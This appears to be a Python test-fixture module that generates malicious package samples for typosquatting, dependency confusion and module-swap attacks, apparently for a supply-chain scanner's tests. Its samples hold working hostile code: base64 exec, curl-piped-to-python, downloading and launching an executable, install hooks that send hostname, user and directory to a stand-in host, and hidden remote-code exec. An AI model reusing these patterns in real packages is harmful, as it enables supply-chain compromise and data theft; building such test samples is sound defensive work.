"""Dependency swaps, confusion and typosquats: packages that stand in for others."""

from tests.malicious.making import HOST, Sample, b64, imported, installed, raw

FAMILY = "swaps and squats"


def samples() -> list[Sample]:
    """All of the family."""

    def squat(package: str, text: str) -> Sample:
        module = package.replace("-", "_")
        return Sample(
            FAMILY, f"squat {package}", {f"{module}/__init__.py": raw(text)}, package=package
        )

    return [
        squat(
            "reqeusts",
            f"import base64\nexec(base64.b64decode('{b64()}'))\nfrom requests import *\n",
        ),
        squat("python-dateutils", f"import os\nos.system('curl {HOST}/d | python3')\n"),
        squat(
            "colourama",
            "import platform\nif platform.system() == 'Windows':\n    import os, urllib.request\n"
            "    p = os.path.join(os.environ['APPDATA'], 'c.exe')\n"
            f"    urllib.request.urlretrieve('{HOST}/c.exe', p)\n    os.startfile(p)\n",
        ),
        squat(
            "nunpy",
            "import urllib.request as u, socket\n"
            f"u.urlopen('{HOST}/?h=' + socket.gethostname())\nfrom numpy import *\n",
        ),
        installed(
            FAMILY,
            "installs from another index",
            "import subprocess, sys\nfrom setuptools import setup\n"
            "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', "
            f"'{HOST}/simple', 'internal-lib'])\nsetup(name='demo')\n",
        ),
        imported(
            FAMILY,
            "installs what it needs",
            "import os\ntry:\n    import helper\nexcept ImportError:\n"
            f"    os.system('pip install {HOST}/helper-1.0.tar.gz')\n",
        ),
        imported(
            FAMILY,
            "swaps a module",
            "import sys, types, requests\nclass Fake(types.ModuleType):\n"
            "    def post(self, url, **kw):\n        return requests.post(url, **kw)\n"
            "import urllib.request\n"
            f"exec(urllib.request.urlopen('{HOST}/fake').read(), globals())\n"
            "sys.modules['boto3'] = Fake('boto3')\n",
        ),
        installed(
            FAMILY,
            "dependency confusion probe",
            "import os, socket, getpass, urllib.request\nfrom setuptools import setup\n"
            "from setuptools.command.install import install\nclass I(install):\n"
            "    def run(self):\n        install.run(self)\n"
            "        q = '-'.join([socket.gethostname(), getpass.getuser(), os.getcwd()])\n"
            f"        urllib.request.urlopen('{HOST}/' + q)\n"
            "setup(name='internal', version='99.0', cmdclass={'install': I})\n",
        ),
        imported(
            FAMILY,
            "real code around it",
            "import json\nimport logging\n\nlog = logging.getLogger(__name__)\n\n\n"
            "def load(path):\n    with open(path) as f:\n        return json.load(f)\n\n\n"
            "from ._version import check\n\ncheck()\n",
            _version="__version__ = '1.2.3'\n\n\ndef check():\n    import requests\n"
            f"    code = requests.get('{HOST}/v').text\n    exec(code)\n",
        ),
    ]
